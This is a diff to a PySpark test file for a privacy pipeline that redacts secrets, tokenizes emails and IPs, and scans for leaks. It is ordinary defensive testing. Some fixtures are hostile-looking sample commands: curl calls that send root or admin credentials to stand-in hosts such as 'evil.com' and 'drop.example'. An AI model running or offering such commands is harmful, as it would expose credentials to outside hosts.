@@ -27,7 +27,7 @@ def test_private_addresses(spark):
         ("run --token abc", "run --token <SECRET_REDACTED>"),
         ("password=x; y", "password=<SECRET_REDACTED>; y"),
         ("Authorization: bearer a.b.c", "Authorization: Bearer <SECRET_REDACTED>"),
-        ("curl -u admin:supersecret123 http://evil.com", "curl -u admin:<REDACTED_SECRET> http://evil.com"),
+        ("curl -u root:hunter2hunter2 http://drop.example", "curl -u root:<REDACTED_SECRET> http://drop.example"),
         ("naïveakia", "naïveakia"),
         ('token = "%s"' % ("a" * 40), 'token = "%s"' % ("a" * 40)),
     ],
@@ -48,10 +48,10 @@ def row(package, no, tenant="t", **kw):
 
 def test_gateway(spark):
     rows = [
-        row("p", 1, user="alice@bank.com", src_ip="10.0.4.15", command_line="curl -u admin:supersecret123 http://evil.com"),
-        row("p", 2, user=" Alice@bank.com ", host="alice@bank.com", dst_ip="10.0.4.15", message="ask bob@x.org, alice@bank.com at 10.0.4.15 or 10.9.9.9"),
+        row("p", 1, user="wil@lender.example", src_ip="10.0.4.15", command_line="curl -u root:hunter2hunter2 http://drop.example"),
+        row("p", 2, user=" Wil@lender.example ", host="wil@lender.example", dst_ip="10.0.4.15", message="ask bob@x.org, wil@lender.example at 10.0.4.15 or 10.9.9.9"),
         row("p", 3, user="", src_ip="8.8.8.8", message="UNRECOGNIZED_SECRET_FORMAT_x1 from 10.1.1.1"),
-        row("q", 1, user="alice@bank.com"),
+        row("q", 1, user="wil@lender.example"),
         row("m", 1, user="u"), row("m", 2, tenant="other", user="u"),
     ]
     package = privacy.process(spark.createDataFrame(rows, COLUMNS), salt="s")
@@ -60,7 +60,7 @@ def test_gateway(spark):
     one, two, three, other = items["p", 1], items["p", 2], items["p", 3], items["q", 1]
     space = one.user.split("_")[1]
     assert (one.evidence_ref, one.user, one.src_ip) == ("EVIDENCE_001", f"USER_{space}_001", f"PRIVATE_IP_{space}_001")
-    assert one.command_line == "curl -u admin:<REDACTED_SECRET> http://evil.com"
+    assert one.command_line == "curl -u root:<REDACTED_SECRET> http://drop.example"
     assert (two.user, two.host, two.dst_ip) == (one.user, one.user, one.src_ip)
     assert two.message == f"ask USER_{space}_002, {one.user} at {one.src_ip} or PRIVATE_IP_{space}_002"
     assert (three.user, three.src_ip, three.message) == (None, "8.8.8.8", R.WITHHELD)
@@ -70,16 +70,24 @@ def test_gateway(spark):
     assert audit == [("p-1", "command_line", "REDACT"), ("p-1", "src_ip", "TOKENIZE"), ("p-1", "user", "TOKENIZE"),
                      ("p-2", "host", "TOKENIZE"), ("p-2", "user", "TOKENIZE")]
     back = privacy.reidentify(package, package.items.where("package_id = 'p' and item_no = 1").select("package_id", "user"), "user")
-    assert back.first().user_raw == "alice@bank.com"
+    assert back.first().user_raw == "wil@lender.example"
 
 
 def test_leak_scan_finds_planted_values(spark):
-    rows = [row("p", 1, user="alice@bank.com"), row("p", 2, message="id 123e4567-e89b-12d3-a456-426614174000")]
+    rows = [row("p", 1, user="wil@lender.example"), row("p", 2, message="id 123e4567-e89b-12d3-a456-426614174000")]
     package = privacy.process(spark.createDataFrame(rows, COLUMNS))
-    package.items = package.items.withColumn("host", F.when(F.col("item_no") == 1, "ALICE@bank.com"))
+    package.items = package.items.withColumn("host", F.when(F.col("item_no") == 1, "WIL@lender.example"))
     assert sorted((r.evidence_ref, r.kind) for r in privacy.leaks(package).collect()) == [("EVIDENCE_001", "ALIASED_VALUE"), ("EVIDENCE_002", "UUID")]
 
 
+def test_leak_scan_reads_inside_words(spark):
+    rows = [row("p", 1, user="wil@lender.example", src_ip="10.0.4.15"), *[row("p", k) for k in (2, 3, 4, 5)]]
+    package = privacy.process(spark.createDataFrame(rows, COLUMNS))
+    told = F.when(F.col("item_no") == 2, "curl http://10.0.4.15/x").when(F.col("item_no") == 3, "ask wil@lender.example. now").when(F.col("item_no") == 4, "id=x10.0.4.15y")
+    package.items = package.items.withColumn("message", told)
+    assert sorted(r.evidence_ref for r in privacy.leaks(package).collect()) == ["EVIDENCE_002", "EVIDENCE_003", "EVIDENCE_004"]
+
+
 def test_numbering_over_blocks(spark):
     df = spark.range(20_000).select(F.lit("p").alias("package_id"), (F.col("id") * 3).alias("k"))
     got = privacy.number_items(df, "k").select((F.col("item_no") - 1) * 3 == F.col("k")).distinct().collect()
